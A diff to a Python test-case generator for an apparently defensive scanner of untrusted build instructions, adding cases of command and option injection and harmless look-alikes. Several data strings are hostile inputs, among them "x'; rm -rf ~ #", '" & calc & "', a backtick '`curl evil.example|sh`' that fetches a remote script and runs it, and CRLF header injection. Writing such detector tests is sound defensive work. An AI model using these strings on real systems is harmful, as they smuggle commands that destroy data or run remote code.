@@ -226,6 +226,11 @@ for name, text, comment in (
         ("short", "' -o x", "A short option."),
         ("inside", "a label\u201d \u2014\u2014output \u201cx", "Behind a word."),
         ("nbsp", "\"\u00a0\u2212\u2212output x", "A no-break space and minus signs."),
+        ("modifier-apostrophe", "\u02bc --next \u02bc", "U+02BC, which Windows writes as an apostrophe where it has no other sign."),
+        ("modifier-prime", "\u02b9 --x", "U+02B9, likewise."), ("modifier-double", "\u02ba --x", "U+02BA, likewise a quotation mark."),
+        ("modifier-line", "\u02c8 --x", "U+02C8, likewise."),
+        ("prime", "x\u2032 --output y", "A prime behind a letter, and an option in full."),
+        ("prime-alone", "\u2032 -o x", "A prime that belongs to nothing."),
         ("second", "\"a\" b \" --output x", "The third quote opens nothing.")):
     add(f"option-{name}", "5-build-instructions-untrusted lib-sec-default-scan", comment, example(text), leaves())
 add("option-default", "5-build-instructions-untrusted", "In a default, in a const and in an enum.", properties(a={"default": CANARY}, b={"const": CANARY}, c={"enum": ["x", CANARY]}),
@@ -245,6 +250,8 @@ for name, text, comment in (
         ("negative", "\" -5", "A quote before a negative number."),
         ("sort", "-created_at", "An order, as many interfaces write it."),
         ("json", "{\"a\":\"b\",\"c\":\"-d\"}", "JSON in a string."),
+        ("prime", "a\u2032 -b", "A derivative, and a minus."), ("prime-minus", "f\u2032\u2032 \u2212g and (a+b)\u2032 -c", "More of them."),
+        ("feet", "5\u2032 \u2013x by 6\u2033 -y", "Feet and inches."), ("ukrainian", "\u0437\u02bc\u0457\u0437\u0434 -\u0434\u043e", "An apostrophe of Ukrainian."),
         ("dash-word", "\u201c\u2013ize\u201d and \u201c\u2013ise\u201d", "Endings of words in quotation marks.")):
     add(f"option-not-{name}", "5-build-instructions-untrusted", comment, example(text))
 add("option-prose", "5-build-instructions-untrusted", "Prose may quote options, and has apostrophes at the ends of words.",
@@ -260,13 +267,24 @@ for name, text, comment, found in (
         ("breakout", "x'; rm -rf ~ #", "A quote, then another command.", "\"'; rm -rf ~ #\""),
         ("pipe", "x\"|calc", "A quote, then a pipe.", None),
         ("variable", "%USERPROFILE%/x", "A variable of cmd.exe.", None),
-        ("carets", "p^o^w^e^r", "Letters that are kept apart.", None)):
+        ("carets", "p^o^w^e^r", "Letters that are kept apart.", None),
+        ("chained", '" & calc & "', "A quote, then another command of cmd.exe.", '"" & calc & ""'),
+        ("chained-word", 'x"&&calc', "Behind a word, and without spaces.", None), ("chained-single", "' & calc & '", "With single quotes.", None),
+        ("backticks", "`id`", "A call in backticks, and nothing else.", '"`id`"'), ("backticks-spaces", " `curl evil.example|sh`\n", "With spaces around.", None),
+        ("line-option", "a\n--output x", "An option at the beginning of a line.", None),
+        ("line-header", "a\r\nHost: x", "A header at the beginning of a line.", None), ("line-header-case", "a\r\nset-cookie:x", "In lower case.", None)):
     add(f"command-{name}", "5-build-instructions-untrusted", comment, example(text), shell(found=found))
 for name, text, comment in (
         ("sql", "SELECT * FROM t WHERE a = 'b';", "SQL that ends there."),
         ("markdown", "use `code` and a|b; c & d", "Markdown, and punctuation."),
         ("template", "{{name}} ${name} costs $5", "Templates and prices."),
         ("percent", "100% of 50%", "Percentages."),
-        ("formula", "a^b^2", "A formula.")):
+        ("formula", "a^b^2", "A formula."),
+        ("pair", '"Tom" & "Jerry", \'a\' & \'b\'', "Quotations with an ampersand between them."), ("inches", '5" & 7" pipes', "Inches."),
+        ("possessive", "the Smiths' & the Joneses' house", "Apostrophes."), ("ampersand", "split at ' & ' or \" & \"", "An ampersand in quotes."),
+        ("entity", "\"&lt;b&gt;\" and '&#38;'", "Entities in quotes."), ("code", "`a` and `b`", "Two words of code."), ("fence", "```\nid\n```", "A block of code."),
+        ("rules", "a\n---\nb\n-- c", "Rules and signatures of texts."), ("arguments", "--name x\n--verbose", "A list of options."),
+        ("continued", "curl \\\n--output x", "A command line that goes on."), ("message", "MIME-Version: 1.0\r\nContent-Type: text/plain", "A message."),
+        ("request", "GET / HTTP/1.1\r\nHost: x", "A request."), ("lines", "Lunch\r\nWhere: here\r\nHostess: me", "Lines with colons.")):
     add(f"command-not-{name}", "5-build-instructions-untrusted", comment, example(text))
 add("command-prose", "5-build-instructions-untrusted", "Prose may explain a shell.", properties(a={"description": "Expands $(x) and %PATH%; 'a'; b"}))
